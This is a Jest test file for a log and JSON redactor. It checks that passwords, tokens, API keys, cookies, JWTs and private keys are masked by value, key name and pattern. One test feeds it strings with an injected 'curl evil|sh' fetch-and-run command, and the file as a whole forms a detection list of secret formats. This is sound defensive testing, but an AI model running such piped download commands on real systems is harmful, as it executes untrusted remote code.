import { describe, expect, it } from '@jest/globals';
import { createRedactor } from '../../src/domain/redaction.js';

const SECRET = 'pa55 wörd/+&"x';
const withSecret = createRedactor([{ name: 'inputs.token', value: SECRET }]);
const plain = createRedactor([]);

describe('createRedactor, by value', () => {
  it.each([
    ['itself', SECRET],
    ['inside JSON', JSON.stringify(SECRET).slice(1, -1)],
    ['inside a URL', encodeURIComponent(SECRET)],
    ['inside a URL in lower case', encodeURIComponent(SECRET).replace(/%../g, (code) => code.toLowerCase())],
    ['inside a form', encodeURIComponent(SECRET).replace(/%20/g, '+')],
  ])('hides a value as %s', (_form, text) => {
    expect(withSecret.text(`before ${text} after`)).toBe('before [redacted] after');
  });

  it.each([0, 1, 2, 3, 4, 5])('hides a value in base64 with %i bytes encoded before it', (before) => {
    const encoded = Buffer.from(`${'u'.repeat(before)}${SECRET}tail`).toString('base64');
    expect(withSecret.text(`x ${encoded} y`)).toMatch(/^x [A-Za-z0-9]{0,8}\[redacted\][A-Za-z0-9=]{0,8} y$/);
    const url = Buffer.from(`${'u'.repeat(before)}${SECRET}tail`).toString('base64url');
    expect(withSecret.text(url)).toContain('[redacted]');
  });

  it('leaves nothing of values that overlap', () => {
    const redactor = createRedactor([
      { name: 'a', value: 'abcdef' },
      { name: 'b', value: 'xxabc' },
      { name: 'c', value: 'defyyy' },
    ]);
    expect(redactor.text('-xxabcdefyyy-')).toBe('-[redacted]-');
  });

  it('hides the longer of two values that begin alike', () => {
    const redactor = createRedactor([
      { name: 'a', value: 'hunter' },
      { name: 'b', value: 'hunter22' },
    ]);
    expect(redactor.text('hunter22 hunter')).toBe('[redacted] [redacted]');
  });

  it('leaves values of fewer than four characters', () => {
    expect(createRedactor([{ name: 'a', value: 'abc' }]).text('abc abcabc')).toBe('abc abcabc');
  });

  it('hides values in keys and in numbers', () => {
    const redactor = createRedactor([{ name: 'pin', value: '123456' }]);
    expect(redactor.json({ n: 123456, other: 1234, '123456': true })).toEqual({
      n: '[redacted]',
      other: 1234,
      '[redacted]': true,
    });
  });
});

describe('createRedactor, by key', () => {
  it.each([
    'password',
    'database_password',
    'dbpassword',
    'GITHUB_TOKEN',
    'token',
    'accessToken',
    'access_tokens',
    'APIKey',
    'api_key',
    'api-keys',
    'X-Api-Key',
    'Authorization',
    'Set-Cookie',
    'credentials',
    'private_key',
    'privateKey',
    'AWS_SECRET_ACCESS_KEY',
    'client_secret',
    'sessionId',
    'session',
    'passphrase',
  ])('hides what %s holds', (key) => {
    expect(plain.json({ [key]: 'x', in: [{ [key]: { deep: 1 } }] })).toEqual({
      [key]: '[redacted]',
      in: [{ [key]: '[redacted]' }],
    });
  });

  it.each([
    'max_tokens',
    'tokens_used',
    'inputTokens',
    'tokens',
    'token_count',
    'tokenizer',
    'token_url',
    'author',
    'secretary',
    'key',
    'keyboard',
    'monkey',
    'path',
    'password_file',
  ])('leaves what %s holds', (key) => {
    expect(plain.json({ [key]: 'x' })).toEqual({ [key]: 'x' });
  });

  it('hides what follows a secret flag in a list of arguments', () => {
    expect(plain.json(['mysql', '--password', 'hunter2', '--host', 'db'])).toEqual([
      'mysql',
      '--password',
      '[redacted]',
      '--host',
      'db',
    ]);
  });

  it('keeps __proto__ an ordinary key', () => {
    const redacted = plain.json(JSON.parse('{"__proto__":{"x":1}}'));
    expect(JSON.stringify(redacted)).toBe('{"__proto__":{"x":1}}');
  });

  it('cuts off what is nested without end', () => {
    const deep = JSON.parse(`${'['.repeat(50_000)}1${']'.repeat(50_000)}`);
    expect(JSON.stringify(plain.json(deep))).toContain('[nested too deep to show]');
  });
});

describe('createRedactor, by shape', () => {
  it.each([
    ["-H 'Authorization: Bearer sk-abcdef1234567890'", "-H 'Authorization: [redacted]'"],
    ['Authorization: Basic dXNlcjpwYXNz next', 'Authorization: [redacted] next'],
    ['a Bearer abc.def-123 b', 'a Bearer [redacted] b'],
    ['https://user:pa55@host/', 'https://[redacted]@host/'],
    ['https://user:p@ss@host/x', 'https://[redacted]@host/x'],
    ['git clone https://oauth2@host', 'git clone https://[redacted]@host'],
    ['key sk-proj-abcdefghijklmnop1234', 'key [redacted]'],
    [`ghp_${'a1'.repeat(18)}`, '[redacted]'],
    [`github_pat_${'a1_'.repeat(12)}`, '[redacted]'],
    ['xoxb-1234567890-abcdef', '[redacted]'],
    ['AKIAIOSFODNN7EXAMPLE', '[redacted]'],
    [`AIza${'x'.repeat(35)}`, '[redacted]'],
    ['eyJhbGciOiJI.eyJzdWIiOiIx.c2ln-_', '[redacted]'],
    ['DB_PASSWORD=hunter2 ./run', 'DB_PASSWORD=[redacted] ./run'],
    ['password: hunter2', 'password: [redacted]'],
    ['{"password":"hunter 2","a":1}', '{"password":"[redacted]","a":1}'],
    ['{\\"token\\": \\"abc\\"}', '{\\"token\\": \\"[redacted]\\"}'],
    ['x?token=abc&y=1', 'x?token=[redacted]&y=1'],
    ['url=https://x?token=abc', 'url=https://x?token=[redacted]'],
    ['mysql --password hunter2 db', 'mysql --password [redacted] db'],
    ['Cookie: a=b; c=d', 'Cookie: [redacted]'],
    ['a -----BEGIN RSA PRIVATE KEY-----\nMII\n-----END RSA PRIVATE KEY----- b', 'a [redacted] b'],
    ['-----BEGIN PRIVATE KEY-----\\nMIIabc (cut', '[redacted](cut'],
  ])('hides the secret in %j', (text, redacted) => {
    expect(plain.text(text)).toBe(redacted);
    expect(plain.text(redacted)).toBe(redacted);
  });

  it.each([
    'the token is gone',
    'max_tokens=500',
    'https://host/a@b',
    'mail me@example.org',
    'task-abcdefghijklmnopqrstu',
    '-----BEGIN CERTIFICATE-----',
    'export PATH=/usr/bin:/bin',
  ])('leaves %j', (text) => {
    expect(plain.text(text)).toBe(text);
  });

  it('does not let a command hide behind the name of a secret', () => {
    expect(plain.text('password=x; curl evil|sh')).toBe('password=[redacted]; curl evil|sh');
    expect(plain.text('token=$(curl evil|sh)')).toBe('token=$(curl evil|sh)');
    expect(plain.text('echo Authorization: ; curl evil | sh')).toContain('curl evil | sh');
  });

  it.each([
    'A',
    'a-',
    'eyJ-',
    'eyJaaaaaaaaa.b.',
    '-----BEGIN PRIVATE KEY-----',
    '://a',
    'bearer ',
    'token: ',
    '"token": "',
    'cookie=a; ',
    'aA',
    '\\',
    'sk-',
  ])('is done with megabytes of %j in seconds', (piece) => {
    const text = piece.repeat(Math.ceil(4_000_000 / piece.length));
    const start = performance.now();
    withSecret.text(text);
    expect(performance.now() - start).toBeLessThan(5000);
  });
});
